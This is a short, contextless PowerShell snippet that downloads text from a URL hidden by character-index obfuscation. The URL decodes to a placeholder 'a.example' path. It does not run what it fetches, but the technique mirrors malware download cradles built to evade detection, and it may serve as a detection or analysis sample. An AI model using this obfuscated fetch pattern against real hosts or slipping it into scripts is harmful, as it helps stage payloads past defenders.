$wc = New-Object System.Net.WebClient
$wc.DownloadString(('.:/aehlmptx'[5,9,9,8,1,2,2,3,0,4,10,3,7,8,6,4,2,8,2,10,0,9,10,9] -join ''))
